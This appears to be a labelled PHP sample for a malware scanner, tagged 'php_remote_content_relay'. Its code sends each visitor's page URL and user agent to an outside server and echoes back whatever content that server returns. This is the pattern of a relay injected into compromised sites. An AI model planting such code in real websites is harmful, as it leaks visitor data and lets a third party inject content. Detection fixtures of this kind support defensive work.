<?php
// want: php_remote_content_relay
$server = 'http://203.0.113.9/index.php';
$page = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];
echo file_get_contents($server . '?host=' . urlencode($page) . '&ua=' . urlencode($_SERVER['HTTP_USER_AGENT']));
